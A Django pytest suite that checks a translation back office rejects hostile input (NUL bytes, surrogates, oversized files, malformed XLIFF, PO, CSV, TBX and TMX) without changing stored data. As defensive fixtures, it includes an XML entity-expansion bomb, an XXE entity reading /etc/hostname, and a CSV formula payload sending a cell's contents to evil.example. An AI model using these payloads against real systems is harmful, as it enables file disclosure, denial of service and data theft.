"""Hostile input to the translation workflow, over HTTP: a 4xx with a message naming the problem,
never a 5xx, and the data exactly as before (issue 9).

Covers the editor (notices and FAQ), exchange imports (XLIFF 1.2/2.0, PO), glossary and memory
imports (CSV, TBX, TMX) and the glossary CSV export. Runs on SQLite and PostgreSQL, where a NUL
reached the database and crashed before.
"""

from __future__ import annotations

import hashlib
import html
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from consultations.models import Category, FaqEntry
from notices.models import Notice
from translations import actions as tr_actions
from translations import exchange, machine, services
from translations.machine import parts_of
from translations.models import (
    GlossaryTerm,
    JobStatus,
    MemoryEntry,
    Translation,
    TranslationRevision,
)
from translations.tests.fakes import Fake

pytestmark = pytest.mark.django_db
NHI = "NH7K4A"
EDITOR = f"/staff/notices/{NHI}/translate/vi"
IMPORT = f"/staff/notices/{NHI}/translate/vi/import"
GLOSSARY_IMPORT = "/staff/translations/glossary/vi/import"
HEADER = "language,term,translation,forbidden,note\n"
OK_ROW = "vi,窓口,quầy tiếp nhận,,\n"


def snapshot() -> tuple[int, ...] | tuple[Any, ...]:
    """Return row counts and a digest of every text a hostile request could have changed."""
    digest = hashlib.sha256()
    for row in Translation.objects.order_by("pk").values_list("pk", "text", "status"):
        digest.update(repr(row).encode())
    for row in GlossaryTerm.objects.order_by("pk").values_list(
        "pk", "term", "translation", "forbidden", "note"
    ):
        digest.update(repr(row).encode())
    for row in MemoryEntry.objects.order_by("pk").values_list("pk", "source", "target"):
        digest.update(repr(row).encode())
    return (
        Translation.objects.count(),
        TranslationRevision.objects.count(),
        GlossaryTerm.objects.count(),
        MemoryEntry.objects.count(),
        digest.hexdigest(),
    )


@pytest.fixture
def translator(translator_client: Client) -> Client:
    """The translator persona, reading the back office in English."""
    translator_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return translator_client


@pytest.fixture
def unchanged() -> Iterator[None]:
    """Fail unless the test leaves every translation, term and memory pair as it found them."""
    before = snapshot()
    yield
    assert snapshot() == before


def refused(response: Any, *needles: str) -> str:
    """Assert a 4xx whose page says each needle; return the page text."""
    assert 400 <= response.status_code < 500, response.status_code
    page = html.unescape(response.content.decode())
    assert 'role="alert"' in page
    for needle in needles:
        assert needle in page, needle
    return page


def _notice_unit_keys() -> tuple[Notice, str, str]:
    notice = Notice.objects.get(code=NHI)
    return notice, f"text-notice-{notice.pk}-title", f"status-notice-{notice.pk}-title"


# The editor ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("Tiêu đề\x00", "cannot be stored"),
        ("x" * 200_001, "too long: 200001 characters"),
    ],
)
def test_editor_refuses_unstorable_or_overlong_text_and_saves_nothing(
    translator: Client, unchanged: None, text: str, needle: str
) -> None:
    notice, text_key, status_key = _notice_unit_keys()
    response = translator.post(
        EDITOR,
        {
            text_key: text,
            status_key: "reviewed",
            f"text-notice-{notice.pk}-summary": "Một bản tóm tắt hợp lệ",  # valid, yet not saved
        },
    )
    page = refused(response, needle, "Nothing was saved.")
    assert "Notice · title" in page or "notice · title" in page.lower()  # the field is named


def test_editor_accepts_the_longest_allowed_text(translator: Client) -> None:
    notice, text_key, _ = _notice_unit_keys()
    limit = services.translation_limit(notice.title)
    assert limit == 10_000  # a short title: the floor applies
    assert translator.post(EDITOR, {text_key: "x" * limit}).status_code == 302
    with pytest.raises(ValidationError) as caught:
        services.set_translation(notice, "title", "vi", "x" * (limit + 1))
    assert caught.value.code == "too_long"


def test_editor_refuses_eight_million_characters(translator: Client, unchanged: None) -> None:
    _, text_key, _ = _notice_unit_keys()
    response = translator.post(EDITOR, {text_key: "x" * 8_000_000})
    assert response.status_code == 400  # the body is over DATA_UPLOAD_MAX_MEMORY_SIZE


def test_editor_with_surrogate_bytes_never_fails(translator: Client) -> None:
    """Form bodies are decoded with errors="replace": the bytes of a lone surrogate arrive as
    U+FFFD, which can be stored; no 5xx and nothing unstorable in the database."""
    _, text_key, _ = _notice_unit_keys()
    body = f"{text_key}=a%ED%A0%80b%00c".encode()
    response = translator.post(EDITOR, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400  # the %00 makes it a NUL, refused
    body = f"{text_key}=a%ED%A0%80b".encode()
    response = translator.post(EDITOR, body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 302
    notice = Notice.objects.get(code=NHI)
    stored = Translation.objects.get(object_id=notice.pk, field="title", language="vi").text
    stored.encode("utf-8")
    assert stored.startswith("a") and stored.endswith("b") and "\ufffd" in stored


def test_editor_message_is_in_the_translators_language(translator: Client) -> None:
    translator.cookies[settings.LANGUAGE_COOKIE_NAME] = "vi"
    _, text_key, _ = _notice_unit_keys()
    refused(translator.post(EDITOR, {text_key: "\x00"}), "không thể lưu")


def test_faq_editor_refuses_nul(translator: Client, unchanged: None) -> None:
    entry = FaqEntry.objects.create(
        slug="hostile", category=Category.values[0], question="保険は？", answer="窓口へ。"
    )
    response = translator.post(
        f"/staff/faq/{entry.slug}/translate/vi",
        {f"text-faqentry-{entry.pk}-answer": "Đến quầy\x00"},
    )
    refused(response, "cannot be stored", "Nothing was saved.")


# Exchange files of a notice (XLIFF 1.2, XLIFF 2.0, PO) ---------------------------------------

XLIFF12 = (
    "<?xml version='1.0' encoding='utf-8'?>"
    "<xliff version='1.2' xmlns='urn:oasis:names:tc:xliff:document:1.2'>"
    "<file original='t' source-language='ja' datatype='plaintext'><body>{units}</body></file>"
    "</xliff>"
)
TMX = (
    "<?xml version='1.0' encoding='utf-8'?><tmx version='1.4'><header srclang='ja'/>"
    "<body>{units}</body></tmx>"
)
TBX = (
    "<?xml version='1.0' encoding='utf-8'?><martif type='TBX' xml:lang='ja'><text><body>"
    "{units}</body></text></martif>"
)


def _exported(fmt: str) -> bytes:
    return exchange.export_content(parts_of(Notice.objects.get(code=NHI)), "vi", fmt)


def _with_target(fmt: str, target: str) -> bytes:
    """Return an export of the notice in which the title's translation is `target`."""
    notice = Notice.objects.get(code=NHI)
    services.set_translation(notice, "title", "vi", "TITLE-PLACEHOLDER")
    data = _exported(fmt)
    return data.replace(b"TITLE-PLACEHOLDER", target.encode())


@pytest.mark.parametrize(
    ("fmt", "data", "needle"),
    [
        ("xliff12", b"", "This file is empty."),
        ("xliff12", b"<xliff", "not well-formed XML"),
        (
            "xliff12",
            TMX.format(units="").encode(),
            "not a XLIFF 1.2 file: its root element is <tmx>",
        ),
        ("xliff20", b"<html><body>hi</body></html>", "root element is <html>"),
        ("xliff20", XLIFF12.format(units="").encode(), "could not be read as XLIFF 2.0"),
        (
            "xliff12",
            XLIFF12.format(units="<trans-unit id='a'><source>caf\xe9</source></trans-unit>").encode(
                "latin-1"
            ),
            "not well-formed XML",
        ),
        (
            "xliff12",
            XLIFF12.format(units="<trans-unit id='a'><source>x&#0;</source></trans-unit>").encode(),
            "not well-formed XML",
        ),
        (
            "xliff12",
            XLIFF12.format(
                units="<trans-unit id='a'><source>&#xD800;</source></trans-unit>"
            ).encode(),
            "not well-formed XML",
        ),
        ("po", b'msgid "x\nmsgstr', "could not be read as PO"),
        ("po", b"<?xml version='1.0'?><xliff/>", "could not be read as PO"),
    ],
)
def test_malformed_exchange_files_are_refused(
    translator: Client, unchanged: None, fmt: str, data: bytes, needle: str
) -> None:
    upload = SimpleUploadedFile("back.xlf", data)
    refused(translator.post(IMPORT, {"file": upload, "format": fmt}), needle)


@pytest.mark.parametrize("fmt", ["xliff12", "xliff20", "po"])
def test_one_overlong_unit_refuses_the_whole_file(translator: Client, fmt: str) -> None:
    data = _with_target(fmt, "y" * 300_000)
    # Every other unit gets a fresh translation too: none of them may be stored.
    before = snapshot()
    response = translator.post(IMPORT, {"file": SimpleUploadedFile("f", data), "format": fmt})
    refused(response, "Segment notices.notice:", "too long: 300000 characters")
    assert snapshot() == before


def test_a_24_mb_po_file_is_refused(translator: Client, unchanged: None) -> None:
    data = _exported("po") + b'\nmsgctxt "pad"\nmsgid "x"\nmsgstr "' + b"y" * (24 * 2**20) + b'"\n'
    response = translator.post(IMPORT, {"file": SimpleUploadedFile("big.po", data), "format": "po"})
    refused(response, "larger than 5 MB")


def test_a_good_file_still_imports(translator: Client) -> None:
    data = _with_target("xliff20", "Tiêu đề mới")
    response = translator.post(
        IMPORT, {"file": SimpleUploadedFile("f.xlf", data), "format": "xliff20"}
    )
    assert response.status_code == 200
    notice = Notice.objects.get(code=NHI)
    row = Translation.objects.get(object_id=notice.pk, field="title", language="vi")
    assert row.text == "Tiêu đề mới"


# Glossary and memory files (CSV, TBX, TMX) ---------------------------------------------------


def _csv(text: str | bytes, name: str = "g.csv") -> dict[str, SimpleUploadedFile]:
    data = text.encode() if isinstance(text, str) else text
    return {"file": SimpleUploadedFile(name, data)}


@pytest.mark.parametrize(
    ("data", "needle"),
    [
        (HEADER + OK_ROW + 'vi,"unclosed,x,,\n', "Line 3 of the CSV file cannot be read"),
        (HEADER + OK_ROW + "vi,長い," + "x" * 140_000 + ",,\n", "field larger than field limit"),
        (HEADER + OK_ROW + "vi," + "語" * 101 + ",dài,,\n", "Row 3 · term: This text is too long"),
        (HEADER + OK_ROW + "vi,窓口2," + "d" * 201 + ",,\n", "Row 3 · translation: This text"),
        (HEADER + OK_ROW + "vi,窓口3,x,,note\x00\n", "Row 3 · note: This text contains characters"),
        (
            HEADER + OK_ROW + "vi,窓口4,x,,n" + "o" * 3000 + "\n",
            "Row 3 · note: This text is too long",
        ),
        ((HEADER + "vi,窓口,quầy,,\n").encode("utf-16"), "not UTF-8"),
        ((HEADER + "vi,窓口,ｶﾀｶﾅ,,\n").encode("shift_jis"), "not UTF-8"),
        (b"", "This file is empty."),
    ],
)
def test_malformed_glossary_csv_is_refused_whole(
    translator: Client, unchanged: None, data: str | bytes, needle: str
) -> None:
    refused(translator.post(GLOSSARY_IMPORT, _csv(data)), needle, "Nothing was imported.")


def test_surrogate_escapes_in_csv_are_refused(translator: Client, unchanged: None) -> None:
    data = (HEADER + OK_ROW + "vi,窓口5,\ud800,,\n").encode("utf-8", "surrogatepass")
    refused(translator.post(GLOSSARY_IMPORT, _csv(data)), "not UTF-8")


def test_oversized_glossary_file_is_refused(translator: Client, unchanged: None) -> None:
    data = HEADER + OK_ROW * (6 * 2**20 // len(OK_ROW.encode()))
    refused(translator.post(GLOSSARY_IMPORT, _csv(data)), "larger than 5 MB")


@pytest.mark.parametrize(
    ("name", "data", "needle"),
    [
        ("g.tbx", TMX.format(units=""), "not a TBX file: its root element is <tmx>"),
        ("g.tbx", "<martif><text>", "not well-formed XML"),
        (
            "g.tbx",
            TBX.format(
                units="<termEntry><langSet xml:lang='ja'><tig><term>"
                + "語" * 101
                + "</term></tig></langSet><langSet xml:lang='vi'><tig><term>dài</term></tig>"
                "</langSet></termEntry>"
            ),
            "Entry 1 · term: This text is too long",
        ),
        ("m.tmx", TBX.format(units=""), "not a TMX file: its root element is <martif>"),
        ("m.tmx", TMX.format(units="<tu><tuv xml:lang='ja'><seg>&#0;</seg></tuv></tu>"), "XML"),
        ("m.tmx", "", "This file is empty."),
        ("m.xlsx", "PK", "Use CSV, TBX or TMX."),
    ],
)
def test_malformed_tbx_and_tmx_are_refused(
    translator: Client, unchanged: None, name: str, data: str, needle: str
) -> None:
    refused(translator.post(GLOSSARY_IMPORT, _csv(data, name)), needle)


DECLARATION = "<?xml version='1.0' encoding='utf-8'?>"
PAIR = "<tu><tuv xml:lang='ja'><seg>{ja}</seg></tuv><tuv xml:lang='vi'><seg>b</seg></tuv></tu>"
ENTITIES = "".join(
    f"<!ENTITY {n} '{('&' + p + ';') * 10}'>" for p, n in zip("abcdef", "bcdefg", strict=True)
)
LAUGHS = f"<?xml version='1.0'?><!DOCTYPE tmx [<!ENTITY a 'xxxxxxxxxx'>{ENTITIES}]>" + (
    TMX.format(units=PAIR.format(ja="&g;")).removeprefix(DECLARATION)
)
XXE = "<?xml version='1.0'?><!DOCTYPE tmx [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>" + (
    TMX.format(units=PAIR.format(ja="a&e;")).removeprefix(DECLARATION)
)


def test_entity_expansion_is_refused(translator: Client, unchanged: None) -> None:
    refused(translator.post(GLOSSARY_IMPORT, _csv(LAUGHS, "m.tmx")), "amplification")


def test_external_entities_are_not_read(translator: Client) -> None:
    assert translator.post(GLOSSARY_IMPORT, _csv(XXE, "m.tmx")).status_code == 302
    assert MemoryEntry.objects.get(language="vi", target="b").source == "a"


def test_no_file_is_a_message_too(translator: Client, unchanged: None) -> None:
    refused(translator.post(GLOSSARY_IMPORT, {}), "Choose a file.")


def test_glossary_csv_export_escapes_formulas_and_imports_them_back(translator: Client) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    GlossaryTerm.objects.create(language="vi", term=evil, translation="+81 96 000", note="@me")
    csv_text = translator.get("/staff/translations/glossary/vi/file.csv").content.decode()
    assert "'=HYPERLINK" in csv_text and "'+81 96 000" in csv_text and "'@me" in csv_text
    assert "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    GlossaryTerm.objects.filter(language="vi").delete()
    response = translator.post(GLOSSARY_IMPORT, _csv(csv_text))
    assert response.status_code == 302
    term = GlossaryTerm.objects.get(language="vi", term=evil)
    assert (term.translation, term.note) == ("+81 96 000", "@me")


def test_outsider_cannot_import(client: Client, unchanged: None) -> None:
    client.force_login(User.objects.create_user("visitor", password="x", is_staff=True))
    assert client.post(GLOSSARY_IMPORT, _csv(HEADER + OK_ROW)).status_code == 403
    upload = SimpleUploadedFile("f.po", b"")
    assert client.post(IMPORT, {"file": upload, "format": "po"}).status_code == 403
    assert client.post(EDITOR, {"text-x": "\x00"}).status_code == 403


def test_bidi_controls_in_a_translators_name_are_shown_not_obeyed(translator: Client) -> None:
    notice = Notice.objects.get(code=NHI)
    spoofer = User.objects.create_user("admin\u202etxt.exe", password="x")
    services.set_translation(notice, "title", "vi", "Tiêu đề", user=spoofer)
    page = translator.get(EDITOR).content.decode()
    assert "<bdi>admin&lt;U+202E&gt;txt.exe</bdi>" in page
    assert "\u202e" not in page


@pytest.mark.parametrize("bad", ["\x00", "\ud800"])
def test_machine_text_that_cannot_be_stored_fails_the_job_and_writes_nothing(
    use_fake: Callable[[str], Fake], bad: str
) -> None:
    fake = use_fake("libretranslate")
    fake.mode, fake.__dict__["bad"] = "unstorable", bad
    notice = Notice.objects.get(code=NHI)
    code = "th"
    Translation.objects.filter(object_id=notice.pk, field="title", language=code).delete()
    assert machine.todo(parts_of(notice), code)  # the title is missing: the job will fill it
    before = snapshot()
    with translation.override("en"):
        job = tr_actions.do_request_machine_translation(notice, [code], label=NHI)
    job.refresh_from_db()
    assert fake.received  # the provider answered
    assert job.status == JobStatus.FAILED and "cannot be stored" in job.message
    assert snapshot() == before


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/staff/translations/jobs/" + "9" * 40, 404),  # past every integer column
        ("/staff/translations/glossary/%00/", 400),  # NUL anywhere in an address: 400
        ("/staff/translations/glossary/vi%00/file.csv", 400),
        ("/staff/translations/glossary/vi/file.c%00sv", 400),
        (f"/staff/notices/{NHI}%00/translate/vi", 400),  # was a 500 on PostgreSQL
        (f"/staff/notices/{NHI}/translate/vi?filter=%00&page=%C2%B2", 200),  # ignored
        (f"/staff/notices/{NHI}/translate/%ED%A0%80", 404),
        (f"/staff/notices/{NHI}/translate/vi/file.p%00o", 400),
        ("/staff/faq/%00/translate/vi", 400),
    ],
)
def test_hostile_paths_are_refused(translator: Client, path: str, status: int) -> None:
    assert translator.get(path).status_code == status


def test_the_editor_persona_gets_the_same_answers(editor_client: Client, unchanged: None) -> None:
    editor_client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    _, text_key, _ = _notice_unit_keys()
    refused(editor_client.post(EDITOR, {text_key: "\x00"}), "cannot be stored")
    data = HEADER + OK_ROW + 'vi,"unclosed,x,,\n'
    refused(editor_client.post(GLOSSARY_IMPORT, _csv(data)), "Line 3 of the CSV file")
    upload = SimpleUploadedFile("f.xlf", b"<tmx/>")
    refused(editor_client.post(IMPORT, {"file": upload, "format": "xliff12"}), "<tmx>")
